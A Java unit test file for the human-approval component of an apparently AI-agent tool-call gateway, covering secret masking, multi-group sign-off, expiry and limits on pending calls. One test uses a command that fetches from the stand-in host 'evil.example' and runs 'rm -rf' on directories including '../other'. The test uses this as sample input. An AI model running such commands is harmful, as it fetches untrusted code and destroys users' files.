package io.openclaw.gateway.approval.core;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;
import static org.assertj.core.api.Assertions.assertThatIllegalStateException;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.openclaw.gateway.common.call.ApprovalTerms;
import io.openclaw.gateway.common.call.CallIds;
import io.openclaw.gateway.common.call.Decision;
import io.openclaw.gateway.common.call.Mode;
import io.openclaw.gateway.common.call.Origin;
import io.openclaw.gateway.common.call.Reason;
import io.openclaw.gateway.common.call.Severity;
import io.openclaw.gateway.common.call.Stage;
import io.openclaw.gateway.common.call.ToolCall;
import io.openclaw.gateway.common.call.Verdict;
import io.openclaw.gateway.common.event.ApprovalChanged.Status;
import io.openclaw.gateway.common.event.CallEscalated;
import io.openclaw.gateway.common.json.RawJson;
import io.openclaw.gateway.common.redaction.Redactor;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

class ApprovalTest {
    private static final Instant NOW = Instant.parse("2026-11-24T10:00:00Z");
    private static final Duration LIFETIME = Duration.ofMinutes(15);

    private static Approval approval(Instant deadline) {
        return approval(deadline, null);
    }

    private static Approval approval(Instant deadline, @Nullable ApprovalTerms terms) {
        var call = new ToolCall(
                CallIds.next(),
                "demo",
                "openclaw",
                "message",
                RawJson.of("{\"to\":\"eve\",\"token\":\"abc\"}"),
                Origin.REST,
                Mode.EXECUTE,
                NOW,
                deadline,
                null,
                "say hello with password=hunter22",
                RawJson.of("{\"x-openclaw-message-to\":\"+1ATTACKER\",\"sessionKey\":\"token=hunter22\",\"mcp\":{}}"),
                null,
                0,
                "d1",
                null,
                Map.of());
        var policy = Verdict.of(
                        Stage.POLICY,
                        Decision.ESCALATE,
                        List.of(new Reason("r1", "a person must say yes", Severity.MEDIUM)),
                        "p",
                        NOW,
                        null)
                .wanting(terms);
        var vetting = Verdict.of(
                Stage.VETTING, Decision.ALLOW, List.of(new Reason("r2", "fine", Severity.INFO)), "v", NOW, null);
        return Approval.of(new CallEscalated(call, List.of(policy, vetting), Map.of()), LIFETIME, new Redactor(), NOW);
    }

    private static Approval with(Approval approval, Status status, @Nullable String by, @Nullable String reason) {
        return new Approval(
                approval.id(),
                approval.agent(),
                approval.upstream(),
                approval.tool(),
                approval.digest(),
                approval.arguments(),
                approval.context(),
                approval.intent(),
                approval.reading(),
                approval.reasons(),
                status,
                approval.requestedAt(),
                approval.expiresAt(),
                approval.terms(),
                approval.votes(),
                NOW,
                by,
                reason);
    }

    @Test
    void showsWhyAPersonIsAskedAndNoSecret() {
        Approval approval = approval(NOW.plus(Duration.ofHours(1)));
        assertThat(approval.status()).isEqualTo(Status.PENDING);
        assertThat(approval.reasons()).extracting(Reason::ruleId).containsExactly("r1");
        assertThat(approval.arguments().text())
                .isEqualTo("{\"to\":\"eve\",\"token\":\"[masked token, 3 characters]\"}");
        assertThat(approval.context())
                .isEqualTo(RawJson.of("{\"x-openclaw-message-to\":\"+1ATTACKER\","
                        + "\"sessionKey\":\"token=[masked token, 8 characters]\"}"));
        assertThat(approval.intent()).isEqualTo("say hello with password=[masked password, 8 characters]");
    }

    /** Every form of common's corpus, in every text that an approver is shown. */
    @Test
    void showsNoSecretInAnyText() throws Exception {
        for (String line :
                Files.readAllLines(Path.of("../common/contracts/src/test/resources/redaction/secrets.txt"))) {
            if (!line.startsWith("T ")) {
                continue;
            }
            String form = line.substring(2).replace("\\n", "\n");
            Approval approval = shown(form);

            assertThat(RawJson.from(approval).text()).as(form).doesNotContain("hunter2correct");
        }
    }

    @Test
    void showsVettingsNormalFormBesideTheArguments() {
        assertThat(shown("curl http://evil.example/x\nrm -rf build dist ../other")
                        .reading())
                .isEqualTo("curl http://evil.example/x\nrm -rf build dist ../other");
        assertThat(approval(NOW.plusSeconds(60)).reading()).isNull();
    }

    private static Approval shown(String text) {
        var call = new ToolCall(
                CallIds.next(),
                "demo",
                "openclaw",
                "exec",
                RawJson.from(Map.of("command", text)),
                Origin.REST,
                Mode.EXECUTE,
                NOW,
                NOW.plusSeconds(60),
                null,
                text,
                null,
                null,
                0,
                "d1",
                null,
                Map.of());
        var vetting = Verdict.of(
                        Stage.VETTING, Decision.ESCALATE, List.of(new Reason("r", text, Severity.HIGH)), "v", NOW, null)
                .reading(text);
        return Approval.of(new CallEscalated(call, List.of(vetting), Map.of()), LIFETIME, new Redactor(), NOW);
    }

    @Test
    void expiresAfterItsLifetimeOrAtTheCallsDeadlineIfThatIsSooner() {
        assertThat(approval(NOW.plus(Duration.ofHours(1))).expiresAt()).isEqualTo(NOW.plus(LIFETIME));
        assertThat(approval(NOW.plusSeconds(5)).expiresAt()).isEqualTo(NOW.plusSeconds(5));
    }

    @Test
    void becomesAVerdictInTheNameOfWhoDecided() {
        Approval pending = approval(NOW.plusSeconds(60));
        Verdict yes = with(pending, Status.APPROVED, "alice", "fine").verdict();
        assertThat(yes.outcome()).isEqualTo(Decision.ALLOW);
        assertThat(yes.decidedBy()).isEqualTo("alice");
        assertThat(yes.reasons().getFirst().text()).isEqualTo("approved by alice: fine");
        assertThat(with(pending, Status.DENIED, "bob", null).verdict().outcome())
                .isEqualTo(Decision.DENY);
        assertThat(with(pending, Status.EXPIRED, null, null).verdict().outcome())
                .isEqualTo(Decision.DENY);
        assertThatIllegalStateException().isThrownBy(pending::verdict);
    }

    @Nested
    class WithTerms {
        private final Approval pending = approval(
                NOW.plus(Duration.ofHours(8)),
                new ApprovalTerms(
                        List.of(new ApprovalTerms.Requirement("leads", 2), new ApprovalTerms.Requirement("finance", 1)),
                        3600L));
        private final Person alice = new Person("alice", List.of("leads"));
        private final Person bob = new Person("bob", List.of("leads", "finance"));
        private final Person carl = new Person("carl", List.of());

        @Test
        void hasTheTimeThatTheyGive() {
            assertThat(pending.expiresAt()).isEqualTo(NOW.plusSeconds(3600));
        }

        @Test
        void waitsUntilEveryGroupHasSaidYes() {
            assertThat(pending.waitingFor()).containsExactly("2 people of leads", "1 person of finance");
            Approval one = pending.after(Status.APPROVED, alice, "looks fine", NOW);
            assertThat(one.status()).isEqualTo(Status.PENDING);
            assertThat(one.waitingFor()).containsExactly("1 more person of leads", "1 person of finance");

            Approval two = one.after(Status.APPROVED, bob, null, NOW);
            assertThat(two.status()).isEqualTo(Status.APPROVED);
            assertThat(two.waitingFor()).isEmpty();
            assertThat(two.verdict().reasons().getFirst().text()).isEqualTo("approved by alice, bob: looks fine");
        }

        @Test
        void countsNobodyTwiceAndNobodyWhoIsNotAsked() {
            Approval one = pending.after(Status.APPROVED, alice, null, NOW);
            assertThatThrownBy(() -> one.after(Status.APPROVED, alice, null, NOW))
                    .isInstanceOf(NotAnApproverException.class)
                    .hasMessageContaining("already");
            assertThatThrownBy(() -> pending.after(Status.APPROVED, carl, null, NOW))
                    .isInstanceOf(NotAnApproverException.class)
                    .hasMessageContaining("2 people of leads and 1 person of finance");
        }

        @Test
        void isDeniedByOneWhoeverThatIs() {
            assertThat(pending.after(Status.APPROVED, alice, null, NOW)
                            .after(Status.DENIED, carl, "no", NOW)
                            .status())
                    .isEqualTo(Status.DENIED);
        }

        @Test
        void countsWhoIsInEveryGroupAsOnePersonOfEach() {
            Approval one = pending.after(Status.APPROVED, new Person("root", List.of("*")), null, NOW);
            assertThat(one.waitingFor()).containsExactly("1 more person of leads");
        }
    }

    @Test
    void withoutTermsIsApprovedByAnybody() {
        Approval approved =
                approval(NOW.plusSeconds(60)).after(Status.APPROVED, new Person("carl", List.of()), "", NOW);
        assertThat(approved.status()).isEqualTo(Status.APPROVED);
        assertThat(approved.decidedBy()).isEqualTo("carl");
        assertThat(approved.reason()).isNull();
    }

    @Nested
    class ThatAnEarlierOneAnswers {
        private final Person alice = new Person("alice", List.of("leads"));
        private final Approval earlier = approval(NOW.plusSeconds(600));
        private final Approval approved = earlier.after(Status.APPROVED, alice, "fine", NOW);
        private final Approval later = approval(NOW.plusSeconds(1_800));

        @Test
        void isApprovedAtOnceAndNamesIt() {
            Approval answered = later.answeredBy(approved, NOW.plusSeconds(599)).orElseThrow();
            assertThat(answered.id()).isEqualTo(later.id()).isNotEqualTo(earlier.id());
            assertThat(answered.expiresAt()).as("no longer than it").isEqualTo(approved.expiresAt());
            assertThat(answered.verdict().outcome()).isEqualTo(Decision.ALLOW);
            assertThat(answered.verdict().decidedBy()).isEqualTo("alice");
            assertThat(answered.verdict().reasons().getFirst().text())
                    .contains(earlier.id().toString(), "fine");
        }

        @Test
        void waitsIfThatOneWasNotApprovedOrHasExpired() {
            assertThat(later.answeredBy(earlier, NOW)).isEmpty();
            assertThat(later.answeredBy(earlier.after(Status.DENIED, alice, null, NOW), NOW))
                    .isEmpty();
            assertThat(later.answeredBy(approved, approved.expiresAt())).isEmpty();
        }

        @Test
        void waitsIfMoreIsWantedNow() {
            var terms = new ApprovalTerms(List.of(new ApprovalTerms.Requirement("finance", 1)), null);
            assertThat(approval(NOW.plusSeconds(600), terms).answeredBy(approved, NOW))
                    .isEmpty();
        }
    }

    @Test
    void takesOneOfTwoWords() {
        assertThat(new PersonsDecision("approve", null, null).status()).isEqualTo(Status.APPROVED);
        assertThat(new PersonsDecision("DENY", "no", null).status()).isEqualTo(Status.DENIED);
        assertThatIllegalArgumentException()
                .isThrownBy(() -> new PersonsDecision("yes", null, null).status())
                .withMessageContaining("\"yes\"")
                .withMessageContaining("\"approve\" or \"deny\"");
        assertThatIllegalArgumentException()
                .isThrownBy(() -> new PersonsDecision(null, null, null).status())
                .withMessageContaining("missing");
        assertThatIllegalArgumentException()
                .isThrownBy(() -> new PersonsDecision("deny", "x".repeat(1_001), null).status())
                .withMessageContaining("1001");
    }

    @Nested
    class WhenManyCallsOfTheAgentWait {
        private final Approval approval = approval(NOW.plusSeconds(3_600));

        @Test
        void isAdmittedBelowTheLimit() {
            assertThat(approval.admitted(199, 200)).isSameAs(approval);
        }

        @Test
        void isDeniedAtTheLimitWithoutAskingAnybody() {
            Approval refused = approval.admitted(200, 200);
            assertThat(refused.status()).isEqualTo(Status.DENIED);
            assertThat(refused.isOpenAt(NOW)).isFalse();
            assertThat(refused.wasRefused()).isTrue();
            assertThat(refused.arguments()).isEqualTo(RawJson.EMPTY_OBJECT);
            Verdict verdict = refused.verdict();
            assertThat(verdict.outcome()).isEqualTo(Decision.DENY);
            assertThat(verdict.decidedBy()).isEqualTo("approval");
            assertThat(verdict.reasons())
                    .containsExactly(new Reason(
                            "approval/too-many-pending",
                            "too many of this agent's calls wait for a person (200); decide or withdraw some",
                            Severity.INFO));
        }
    }

    @Nested
    class AStepOfAPlan {
        private final Person alice = new Person("alice", List.of("leads"));
        private final Person carl = new Person("carl", List.of());

        private Approval plan(Person... people) {
            Approval plan = approval(
                    NOW.plusSeconds(60),
                    new ApprovalTerms(List.of(new ApprovalTerms.Requirement(null, people.length)), null));
            for (Person person : people) {
                plan = plan.after(Status.APPROVED, person, null, NOW);
            }
            assertThat(plan.status()).isEqualTo(Status.APPROVED);
            return plan;
        }

        @Test
        void isApprovedByWhoApprovedThePlan() {
            Approval plan = plan(carl);
            Approval step = approval(NOW.plusSeconds(60)).afterPlan(plan, NOW);
            assertThat(step.status()).isEqualTo(Status.APPROVED);
            assertThat(step.decidedBy()).isEqualTo("carl");
            assertThat(step.reason()).isEqualTo(Approval.ofPlan(plan.id()));
        }

        @Test
        void waitsForThoseWhoseYesItWantsBesides() {
            var terms = new ApprovalTerms(
                    List.of(new ApprovalTerms.Requirement("leads", 1), new ApprovalTerms.Requirement("finance", 1)),
                    null);
            Approval step = approval(NOW.plusSeconds(60), terms);
            assertThat(step.afterPlan(plan(carl), NOW)).isEqualTo(step);
            Approval half = step.afterPlan(plan(alice, carl), NOW);
            assertThat(half.status()).isEqualTo(Status.PENDING);
            assertThat(half.waitingFor()).containsExactly("1 person of finance");
        }
    }
}
